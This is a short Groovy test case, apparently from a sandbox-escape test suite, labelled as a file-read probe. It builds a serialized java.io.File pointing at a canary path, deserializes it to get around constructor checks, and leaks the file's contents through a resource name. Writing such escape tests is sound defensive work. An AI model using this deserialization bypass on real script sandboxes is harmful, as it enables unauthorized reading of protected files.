// class: file-read
// source: original (a File obtained by deserialisation, without its constructor)
// expect: read
def path = '@CANARY_READ@'.getBytes('UTF-8')
def head = [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72, 0x00, 0x0C] + 'java.io.File'.bytes.toList() +
        [0x04, 0x2D, 0xA4, 0x45, 0x0E, 0x0D, 0xE4, 0xFF, 0x03, 0x00, 0x01, 0x4C, 0x00, 0x04] + 'path'.bytes.toList() +
        [0x74, 0x00, 0x12] + 'Ljava/lang/String;'.bytes.toList() + [0x78, 0x70, 0x74, 0x00, path.length] + path.toList() +
        [0x77, 0x02, 0x00, 0x2F, 0x78]
byte[] bytes = head.collect { it as byte }
def f = new ObjectInputStream(new ByteArrayInputStream(bytes)).readObject()
vmwareSite("leak-${f.text}") { network 'VM Network' }
